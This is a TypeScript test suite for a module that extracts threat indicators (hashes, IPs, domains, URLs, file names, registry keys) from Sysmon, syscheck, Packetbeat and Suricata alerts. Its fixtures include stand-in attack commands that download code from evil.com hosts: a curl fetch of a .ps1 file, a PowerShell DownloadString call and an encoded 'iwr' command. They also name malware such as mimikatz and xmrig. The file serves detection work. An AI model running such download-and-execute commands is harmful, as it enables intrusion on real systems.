import test from "ava";
import type { Alert } from "../../../integration-script/alert/alert.ts";
import { indicatorReader } from "../../../integration-script/indicators/extract.ts";
import { parseOptions } from "../../../integration-script/settings/options.ts";
import { alertOf, sysmonAlert } from "../helpers/alerts.ts";

const md5 = "44d88612fea8a8f36de82e1278abb02f";
const sha1 = "3395856ce81f2b7382dee72602f798b642f14140";
const sha256 = "275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f";
const imphash = "f34d5f2d4577ed6d9ceec516c1f5a744";
const hashes = `SHA1=${sha1.toUpperCase()},MD5=${md5.toUpperCase()},SHA256=${sha256},IMPHASH=${imphash}`;
const allHashes = [`sha1:${sha1}`, `md5:${md5}`, `sha256:${sha256}`, `imphash:${imphash}`];

/** `kind:value` of every indicator of an alert, in order. */
const found = async (alert: unknown, options = {}): Promise<string[]> => {
  const extract = await indicatorReader(parseOptions(JSON.stringify(options)));
  return extract(alert as Alert).indicators.map(({ kind, value }) => `${kind}:${value}`);
};

const groups = (...names: string[]) => ({ rule: { level: 3, id: "1", groups: names } });

const linux = (eventId: number, eventdata: Record<string, string>, ...names: string[]) =>
  alertOf(
    { system: { providerName: "Linux-Sysmon", eventId: String(eventId), computer: "web01" }, eventdata },
    { decoder: { name: "sysmon-linux" }, ...groups("linux", "sysmon", ...names) },
  );

const beat = (data: Record<string, unknown>) =>
  alertOf({
    "@timestamp": "2026-11-24T07:00:00.000Z",
    agent: { type: "packetbeat" },
    ecs: { version: "8.0.0" },
    ...data,
  });

interface Case {
  readonly title: string;
  readonly alert: unknown;
  readonly options?: Record<string, unknown>;
  readonly indicators: readonly string[];
}

const cases: readonly Case[] = [
  {
    title: "Sysmon 1, process created: all hashes and the names of the file",
    alert: sysmonAlert(1, {
      image: "C:\\\\Users\\\\u\\\\mimi.exe",
      originalFileName: "mimikatz.exe",
      hashes,
    }),
    indicators: [...allHashes, "filename:mimi.exe", "filename:mimikatz.exe"],
  },
  {
    title: "Sysmon 1 with MD5 alone",
    alert: sysmonAlert(1, { image: "C:\\\\Windows\\\\System32\\\\cmd.exe", hashes: `MD5=${md5}` }),
    indicators: [`md5:${md5}`],
  },
  {
    title: "Sysmon 2, time of a file changed",
    alert: sysmonAlert(2, { image: "C:\\\\x.exe", targetFilename: "C:\\\\Users\\\\u\\\\drop.dll" }),
    indicators: ["filename:drop.dll"],
  },
  {
    title: "Sysmon 3, connection over IPv4",
    alert: sysmonAlert(3, {
      image: "C:\\\\x.exe",
      sourceIp: "10.0.0.5",
      sourcePort: "50000",
      destinationIp: "45.155.205.233",
      destinationPort: "443",
      destinationHostname: "c2.evil.com",
    }),
    indicators: ["ip:45.155.205.233", "domain:c2.evil.com"],
  },
  {
    title: "Sysmon 3, connection over IPv6, written out in full",
    alert: sysmonAlert(3, {
      destinationIsIpv6: "true",
      sourceIp: "fe80:0:0:0:1c2b:3a4d:5e6f:1",
      destinationIp: "2A01:04F8:0000:0000:0000:0000:0000:0001",
      destinationPort: "8443",
    }),
    indicators: ["ip:2a01:4f8::1"],
  },
  {
    title: "Sysmon 6, driver loaded",
    alert: sysmonAlert(6, { imageLoaded: "C:\\\\Windows\\\\rtcore64.sys", hashes, signed: "true" }),
    indicators: [...allHashes, "filename:rtcore64.sys"],
  },
  {
    title: "Sysmon 7, library loaded: the library, and not the program that loads it",
    alert: sysmonAlert(7, { image: "C:\\\\good.exe", imageLoaded: "C:\\\\evil.dll", hashes }),
    indicators: [...allHashes, "filename:evil.dll"],
  },
  {
    title: "Sysmon 8, thread made in another process",
    alert: sysmonAlert(8, { sourceImage: "C:\\\\inject.exe", targetImage: "C:\\\\Windows\\\\explorer.exe" }),
    indicators: ["filename:inject.exe"],
  },
  {
    title: "Sysmon 11, file made",
    alert: sysmonAlert(11, { image: "C:\\\\x.exe", targetFilename: "C:\\\\Windows\\\\Temp\\\\dropper.exe" }),
    indicators: ["filename:dropper.exe"],
  },
  {
    title: "Sysmon 15, stream made: the hash, the file, and where the browser got it",
    alert: sysmonAlert(15, {
      targetFilename: "C:\\\\Users\\\\u\\\\Downloads\\\\tool.exe:Zone.Identifier",
      hash: `SHA256=${sha256}`,
      contents:
        "[ZoneTransfer]  ZoneId=3  ReferrerUrl=https://evil.com/  HostUrl=https://cdn.evil.com/tool.exe ",
    }),
    indicators: [
      `sha256:${sha256}`,
      "filename:tool.exe",
      "url:https://evil.com/",
      "domain:evil.com",
      "url:https://cdn.evil.com/tool.exe",
      "domain:cdn.evil.com",
    ],
  },
  {
    title: "Sysmon 22, name looked up: the name, its aliases and addresses",
    alert: sysmonAlert(22, {
      image: "C:\\\\chrome.exe",
      queryName: "WWW.Evil.com",
      queryResults: "type:  5 alias.evil.net;::ffff:45.155.205.233;2a01:4f8::1;",
    }),
    indicators: ["domain:www.evil.com", "domain:alias.evil.net", "ip:45.155.205.233", "ip:2a01:4f8::1"],
  },
  {
    title: "Sysmon 23, file deleted",
    alert: sysmonAlert(23, { targetFilename: "C:\\\\evil.bin", hashes, isExecutable: "true" }),
    indicators: [...allHashes, "filename:evil.bin"],
  },
  {
    title: "Sysmon 24, clipboard",
    alert: sysmonAlert(24, { image: "C:\\\\stealer.exe", hashes: `SHA1=${sha1}` }),
    indicators: [`sha1:${sha1}`, "filename:stealer.exe"],
  },
  {
    title: "Sysmon 25, image replaced",
    alert: sysmonAlert(25, { image: "C:\\\\hollow.exe", type: "Image is replaced" }),
    indicators: ["filename:hollow.exe"],
  },
  {
    title: "Sysmon 26, file deletion logged",
    alert: sysmonAlert(26, { targetFilename: "C:\\\\evil.ps1", hashes }),
    indicators: [...allHashes, "filename:evil.ps1"],
  },
  {
    title: "Sysmon 29, executable file made",
    alert: sysmonAlert(29, { targetFilename: "C:\\\\evil.scr", hashes }),
    indicators: [...allHashes, "filename:evil.scr"],
  },
  {
    title: "Sysmon 13, value of the registry set, in the hive of a user",
    alert: sysmonAlert(13, {
      targetObject: "HKU\\\\S-1-5-21-1-2-3-1001\\\\Software\\\\Evil\\\\Run",
      details: "x",
    }),
    indicators: ["regkey:HKU\\S-1-5-21-1-2-3-1001\\Software\\Evil\\Run"],
  },
  ...["sysmon_event1", "sysmon_event_1", "sysmon_eid1_detections"].map((group) => ({
    title: `Sysmon known by the group ${group} alone, wherever it stands`,
    alert: alertOf(
      { win: { eventdata: { image: "C:\\\\evil.exe", hashes } } },
      groups("x", group, "windows"),
    ),
    indicators: [...allHashes, "filename:evil.exe"],
  })),
  {
    title: "Sysmon for Linux 1",
    alert: linux(
      1,
      { image: "/tmp/xmrig", commandLine: "/tmp/xmrig -o pool", hashes: `SHA256=${sha256}` },
      "sysmon_event1",
    ),
    indicators: [`sha256:${sha256}`, "filename:xmrig"],
  },
  {
    title: "Sysmon for Linux 3, with the capitals of another decoder",
    alert: linux(
      3,
      { Image: "/usr/bin/curl", DestinationIp: "45.155.205.233", DestinationPort: "80" },
      "sysmon_event3",
    ),
    indicators: ["ip:45.155.205.233"],
  },
  ...[
    { eventId: 5, field: "image" },
    { eventId: 9, field: "image" },
    { eventId: 11, field: "targetFilename" },
    { eventId: 23, field: "targetFilename" },
  ].map(({ eventId, field }) => ({
    title: `Sysmon for Linux ${eventId}`,
    alert: linux(eventId, { [field]: "/var/tmp/kinsing" }, `sysmon_event_${eventId}`),
    indicators: ["filename:kinsing"],
  })),
  {
    title: "Sysmon for Linux 16",
    alert: linux(
      16,
      { configuration: "/tmp/evil.xml", configurationFileHash: `SHA256=${sha256}` },
      "sysmon_event_16",
    ),
    indicators: [`sha256:${sha256}`, "filename:evil.xml"],
  },
  {
    title: "syscheck, file added",
    alert: {
      ...alertOf(undefined, groups("ossec", "syscheck", "syscheck_entry_added", "syscheck_file")),
      syscheck: {
        path: "/var/www/shell.php",
        event: "added",
        md5_after: md5,
        sha1_after: sha1,
        sha256_after: sha256,
      },
    },
    indicators: [`sha256:${sha256}`, `sha1:${sha1}`, `md5:${md5}`, "filename:shell.php"],
  },
  {
    title: "syscheck, file modified: the hash after, not the one before",
    alert: {
      ...alertOf(undefined, groups("ossec", "syscheck", "syscheck_entry_modified")),
      syscheck: { path: "C:\\evil.exe", event: "modified", md5_before: imphash, md5_after: md5 },
    },
    indicators: [`md5:${md5}`, "filename:evil.exe"],
  },
  {
    title: "syscheck, value of the registry",
    alert: {
      ...alertOf(undefined, groups("ossec", "syscheck", "syscheck_entry_added", "syscheck_registry")),
      syscheck: { path: "HKEY_LOCAL_MACHINE\\Software\\Evil", event: "added", sha256_after: sha256 },
    },
    indicators: [`sha256:${sha256}`, "regkey:HKLM\\Software\\Evil"],
  },
  {
    title: "Packetbeat, DNS: question, answers and addresses",
    alert: beat({
      type: "dns",
      method: "QUERY",
      dns: {
        question: { name: "evil.com", type: "A" },
        answers: [
          { name: "evil.com", type: "CNAME", data: "cdn.evil.net" },
          { name: "cdn.evil.net", type: "A", data: "45.155.205.233" },
          { name: "evil.com", type: "TXT", data: "v=spf1 include.evil.org" },
        ],
        resolved_ip: ["45.155.205.233", "45.155.205.234"],
      },
      destination: { ip: "10.0.0.1", port: 53 },
    }),
    indicators: ["domain:evil.com", "ip:45.155.205.233", "ip:45.155.205.234", "domain:cdn.evil.net"],
  },
  {
    title: "Packetbeat, TLS: name, certificate and fingerprint of the client",
    alert: beat({
      type: "tls",
      tls: { client: { server_name: "evil.com", ja3: md5 }, server: { hash: { sha1: sha1.toUpperCase() } } },
      destination: { ip: "45.155.205.233", port: 443 },
    }),
    indicators: ["domain:evil.com", `sha1:${sha1}`, `ja3:${md5}`, "ip:45.155.205.233"],
  },
  {
    title: "Packetbeat, HTTP: the address and its host",
    alert: beat({
      type: "http",
      url: { full: "http://evil.com:80/Gate.php?id=1", domain: "evil.com" },
      server: { ip: "45.155.205.233" },
    }),
    indicators: ["url:http://evil.com/Gate.php?id=1", "domain:evil.com", "ip:45.155.205.233"],
  },
  {
    title: "Packetbeat, flow and ICMP",
    alert: beat({
      type: "icmp",
      network: { transport: "icmp" },
      source: { ip: "192.168.1.2" },
      destination: { ip: "45.155.205.233" },
    }),
    indicators: ["ip:45.155.205.233"],
  },
  {
    title: "Suricata, HTTP alert with a file",
    alert: alertOf({
      event_type: "alert",
      src_ip: "10.0.0.5",
      dest_ip: "45.155.205.233",
      dest_port: "80",
      http: { hostname: "evil.com", url: "/a.exe?x=1", http_refer: "http://evil.org/" },
      fileinfo: { filename: "/a.exe", sha256, md5 },
    }),
    indicators: [
      "url:http://evil.com/a.exe?x=1",
      "domain:evil.com",
      "url:http://evil.org/",
      "domain:evil.org",
      `sha256:${sha256}`,
      `md5:${md5}`,
      "filename:a.exe",
      "ip:45.155.205.233",
    ],
  },
  {
    title: "Suricata, DNS of both versions and TLS",
    alert: alertOf(
      {
        dns: {
          rrname: "a.evil.com",
          query: [{ rrname: "b.evil.com" }],
          answers: [{ rdata: "45.155.205.233" }],
        },
        tls: { sni: "c.evil.com", fingerprint: sha1.replace(/..(?!$)/g, "$&:"), ja3: { hash: md5 } },
      },
      groups("ids", "suricata"),
    ),
    indicators: [
      "domain:a.evil.com",
      "domain:b.evil.com",
      "ip:45.155.205.233",
      "domain:c.evil.com",
      `sha1:${sha1}`,
      `ja3:${md5}`,
    ],
  },
  {
    title: "a web server's log",
    alert: alertOf(
      { protocol: "GET", srcip: "45.155.205.233", id: "404", url: "/index.php?id=1" },
      groups("web", "accesslog"),
    ),
    indicators: ["ip:45.155.205.233"],
  },
  {
    title: "a firewall's log",
    alert: alertOf(
      { srcip: "10.1.1.1", dstip: "45.155.205.233", dstport: "8443", action: "drop" },
      groups("firewall"),
    ),
    indicators: ["ip:45.155.205.233"],
  },
  {
    title: "a proxy's log with a whole address",
    alert: alertOf({ srcip: "10.1.1.1", url: "HTTPS://Evil.com:443/a/../b#top" }, groups("squid")),
    indicators: ["url:https://evil.com/b", "domain:evil.com"],
  },
  {
    title: "a cloud's log of unknown shape: what is wholly an address, and what a name says",
    alert: alertOf({
      office_365: { ClientIP: "45.155.205.233", UserId: "Eve@Evil.com" },
      file: { sha512_hash: "a1".repeat(64), note: md5 },
      items: [{ domain: "evil.org" }, { version: "1.2.3" }],
    }),
    indicators: ["ip:45.155.205.233", "email:eve@evil.com", `sha512:${"a1".repeat(64)}`, "domain:evil.org"],
  },
  {
    title: "locality sensitive hashes where a field is named after them",
    alert: alertOf({ scan: { tlsh: `T1${"0A".repeat(35)}`, ssdeep: "96:abcDEF/+:xyzXYZ" } }),
    indicators: [`tlsh:T1${"0A".repeat(35)}`, "ssdeep:96:abcDEF/+:xyzXYZ"],
  },
  {
    title: "command lines by option",
    alert: sysmonAlert(1, {
      commandLine: "curl -o C:\\\\x.ps1 http://evil.com/a.ps1 && ping 45.155.205.233",
    }),
    options: { text: true },
    indicators: ["url:http://evil.com/a.ps1", "domain:evil.com", "ip:45.155.205.233"],
  },
  {
    title: "no command lines without that option",
    alert: sysmonAlert(1, { commandLine: "curl http://evil.com/a.ps1" }),
    indicators: [],
  },
  {
    title: "a PowerShell script, in clear and encoded, without what only looks like a domain",
    alert: alertOf({
      win: {
        system: { providerName: "Microsoft-Windows-PowerShell", eventID: "4104" },
        eventdata: {
          scriptBlockText: `(New-Object System.Net.WebClient).DownloadString('http://evil.com/b'); powershell -enc ${Buffer.from(`iwr c2.evil.org; # ${sha256}`, "utf16le").toString("base64")}`,
        },
      },
    }),
    options: { text: true },
    indicators: ["url:http://evil.com/b", "domain:evil.com", "domain:c2.evil.org", `sha256:${sha256}`],
  },
  {
    title: "parents of a domain by option",
    alert: sysmonAlert(22, { queryName: "a.b.evil.com" }),
    options: { parent_domains: true },
    indicators: ["domain:a.b.evil.com", "domain:b.evil.com", "domain:evil.com"],
  },
  {
    title: "an alert without data",
    alert: { id: "1", rule: { groups: ["syslog"] }, full_log: "evil.com 45.155.205.233" },
    indicators: [],
  },
];

for (const { title, alert, options, indicators } of cases) {
  test(title, async (t) => {
    t.deepEqual(await found(alert, options), indicators);
  });
}

test("what cannot be an indicator is left out, and it is told why", async (t) => {
  const extract = await indicatorReader(parseOptions('{"allow":["8.8.8.0/24","good.org"]}'));
  const alert = alertOf({
    a: "10.0.0.1",
    b: "127.0.0.1",
    c: "169.254.1.1",
    d: "224.0.0.251",
    e: "192.0.2.1",
    f: "8.8.8.8",
    url: "http://www.good.org/x",
    url2: "http://192.168.1.1/x",
    hostname: "WORKSTATION7",
    domain: "1.0.0.127.in-addr.arpa",
    server_name: "printer.local",
    md5: "d41d8cd98f00b204e9800998ecf8427e",
  });
  const { indicators, ignored } = extract(alert as unknown as Alert);
  t.deepEqual(indicators, []);
  t.deepEqual(
    ignored.map(({ value, reason }) => `${value}: ${reason}`),
    [
      "10.0.0.1: a private or reserved address",
      "127.0.0.1: a private or reserved address",
      "169.254.1.1: a private or reserved address",
      "224.0.0.251: a private or reserved address",
      "192.0.2.1: a private or reserved address",
      "8.8.8.8: on the allow list",
      "http://www.good.org/x: on the allow list",
      "http://192.168.1.1/x: a private or reserved address",
      "WORKSTATION7: a name without a domain",
      "1.0.0.127.in-addr.arpa: a reverse lookup",
      "printer.local: names below .local are private",
      "d41d8cd98f00b204e9800998ecf8427e: the hash of an empty file",
    ],
  );
});

test("an address is asked for with the networks around it by option", async (t) => {
  const extract = await indicatorReader(parseOptions('{"networks":true}'));
  const [indicator] = extract(alertOf({ srcip: "45.155.205.233" }) as unknown as Alert).indicators;
  t.deepEqual(indicator!.spellings.slice(0, 5), [
    "45.155.205.233",
    "45.155.205.232/31",
    "45.155.205.232/30",
    "45.155.205.232/29",
    "45.155.205.224/28",
  ]);
  t.is(indicator!.spellings.at(-1), "45.0.0.0/8");
});

test("an address keeps the port that was used with it", async (t) => {
  const extract = await indicatorReader(parseOptions(""));
  const alert = sysmonAlert(3, { destinationIp: "45.155.205.233", destinationPort: "8443" });
  t.is(extract(alert as unknown as Alert).indicators[0]!.port, "8443");
});

test("a name that MISP would read as an operator is never an indicator", async (t) => {
  const extract = await indicatorReader(parseOptions(""));
  for (const queryName of ["!evil.com", "%", "evil.com%", "", " ", "e%vil.com", "!%"]) {
    t.deepEqual(extract(sysmonAlert(22, { queryName }) as unknown as Alert).indicators, [], queryName);
  }
});
